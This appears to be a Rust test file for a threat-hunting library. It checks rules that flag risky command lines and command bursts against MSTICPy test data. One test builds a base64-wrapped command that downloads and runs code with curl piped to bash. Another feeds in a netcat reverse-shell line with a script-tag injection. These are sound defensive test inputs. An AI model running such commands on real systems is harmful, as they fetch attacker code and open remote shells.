//! Risky command lines and command bursts through the public API, on
//! MSTICPy's test data (`sudo_data.csv`, `sudo_data_speed.csv`,
//! `syslog_data.csv` with `risky_stuff_custom.json`), with decoded base64
//! payloads and bad input.

use huntbook::prelude::*;
use huntbook::transform::cmdline::{CmdRules, RiskyCommands, command_bursts};

fn s(df: &DataFrame, col: &str, row: usize) -> Option<String> {
    let c = df.column(col).unwrap().as_materialized_series().clone();
    let c = match c.dtype() {
        DataType::Datetime(_, _) => c
            .datetime()
            .unwrap()
            .to_string("%Y-%m-%dT%H:%M:%S%.3fZ")
            .unwrap()
            .into_series(),
        _ => c.cast(&DataType::String).unwrap(),
    };
    c.str().unwrap().get(row).map(str::to_string)
}

fn testdata(name: &str) -> DataFrame {
    read_csv(bundled(&format!("msticpy/testdata/{name}")).unwrap()).unwrap()
}

#[test]
fn sudo_data_with_bundled_rules() {
    // MSTICPy's test_risky_cmd_line: the /bin/bash at 2019-07-05T18:19:52.873Z.
    let hits = RiskyCommands::new()
        .detect(&testdata("sudo_data.csv"), "Command")
        .unwrap();
    let df = hits.df();
    assert_eq!(df.height(), 1);
    assert_eq!(
        s(df, "TimeGenerated", 0).as_deref(),
        Some("2019-07-05T18:19:52.873Z")
    );
    assert_eq!(s(df, "Command", 0).as_deref(), Some("/bin/bash"));
    assert_eq!(s(df, "Rule", 0).as_deref(), Some("interactive_root_shell"));
    assert_eq!(s(df, "Severity", 0).as_deref(), Some("medium"));
    assert_eq!(s(df, "Mitre", 0).as_deref(), Some("T1548.003"));
    assert_eq!(s(df, "MatchedIn", 0).as_deref(), Some("command"));
    assert_eq!(s(df, "SourceIndex", 0).as_deref(), Some("12"));
    assert_eq!(hits.checked(), 11);
    let err = RiskyCommands::new()
        .detect(&testdata("sudo_data.csv"), "Test")
        .unwrap_err()
        .to_string();
    assert!(
        err.starts_with("column 'Test' not found in command events"),
        "{err}"
    );
}

#[test]
fn msticpy_format_rule_file() {
    // MSTICPy's test_syslog_risky_actions: risky_stuff_custom.json on
    // SyslogMessage; its patterns are anchored (re.match) and 66 of the 100
    // messages match one (no message matches two).
    let path = bundled("msticpy/testdata/risky_stuff_custom.json").unwrap();
    let rules = CmdRules::from_file(&path, Some("Syslog")).unwrap();
    assert_eq!(rules.len(), 3);
    let hits = RiskyCommands::new()
        .rules(rules)
        .detect(&testdata("syslog_data.csv"), "SyslogMessage")
        .unwrap();
    assert_eq!(hits.df().height(), 66);
    assert_eq!(s(hits.df(), "Rule", 0).as_deref(), Some(".*pam_unix.*"));
    // the huntbook format can't be read as MSTICPy's and vice versa
    let err = CmdRules::from_file(&path, None).unwrap_err().to_string();
    assert!(err.contains("missing field `rules`"), "{err}");
    let err = CmdRules::from_file("/nonexistent.json", None)
        .unwrap_err()
        .to_string();
    assert!(err.starts_with("reading '/nonexistent.json'"), "{err}");
}

#[test]
fn decoded_payloads_are_checked() {
    // base64 of `echo <base64 of "curl http://203.0.113.9/x | bash"> | base64 -d | sh`:
    // the outer command only decodes; the payload downloads and runs.
    let inner = "curl http://203.0.113.9/x | bash";
    use base64::Engine;
    let b64 = |t: &str| base64::engine::general_purpose::STANDARD.encode(t);
    let outer = format!("echo {} | base64 -d | sh", b64(inner));
    let cmd = format!("bash -c \"$(echo {} | base64 --decode)\"", b64(&outer));
    let hits = RiskyCommands::new().check(&cmd).unwrap();
    let got: Vec<(&str, &str, Option<&str>)> = hits
        .iter()
        .map(|h| (h.rule.as_str(), h.matched_in.as_str(), h.decoded.as_deref()))
        .collect();
    assert_eq!(
        got,
        vec![
            (
                "base64_decoded_execution",
                "decoded payload",
                Some(outer.as_str())
            ),
            ("download_piped_to_shell", "decoded payload", Some(inner)),
        ]
    );
    // decoding off: the command line alone does not match
    let hits = RiskyCommands::new()
        .decode_base64(false)
        .check(&cmd)
        .unwrap();
    assert!(hits.is_empty());
    // a hostile command line is escaped in the HTML view
    let df = df!("Command" => ["<script>alert(1)</script> | nc -e /bin/sh 1.2.3.4 9"]).unwrap();
    let f = RiskyCommands::new().detect(&df, "Command").unwrap();
    assert_eq!(
        s(f.df(), "Rule", 0).as_deref(),
        Some("reverse_shell_netcat")
    );
    let html = f.to_html();
    assert!(!html.contains("<script>alert") && html.contains("&lt;script&gt;"));
}

#[test]
fn command_speed() {
    let df = testdata("sudo_data_speed.csv");
    // six commands between 18:04:09.07 and 18:04:11.07
    let b = command_bursts(&df, "Command", "TimeGenerated", 5.0, 6).unwrap();
    assert_eq!(b.height(), 1);
    assert_eq!(s(&b, "Commands", 0).as_deref(), Some("6"));
    assert_eq!(
        s(&b, "BurstStart", 0).as_deref(),
        Some("2019-07-05T18:04:09.070Z")
    );
    assert_eq!(
        s(&b, "BurstEnd", 0).as_deref(),
        Some("2019-07-05T18:04:11.070Z")
    );
    assert_eq!(s(&b, "CommandList", 0).map(|l| l.lines().count()), Some(6));
    // MSTICPy's defaults (10 commands within 5 s): there are only 11
    // commands, spread over days, so no burst. (MSTICPy's cmd_speed reports
    // one here because it does not sort by time: the file is out of order
    // and a negative difference counts as "within 5 s".)
    let b = command_bursts(&df, "Command", "TimeGenerated", 5.0, 10).unwrap();
    assert_eq!(b.height(), 0);
    let err = command_bursts(&df, "Command", "TimeGenerated", 0.0, 10)
        .unwrap_err()
        .to_string();
    assert_eq!(
        err,
        "invalid command burst settings: need seconds > 0 and at least 2 commands, got 0 s and 10"
    );
    let err = command_bursts(&df, "Test", "TimeGenerated", 5.0, 10)
        .unwrap_err()
        .to_string();
    assert!(err.starts_with("column 'Test' not found"), "{err}");
}
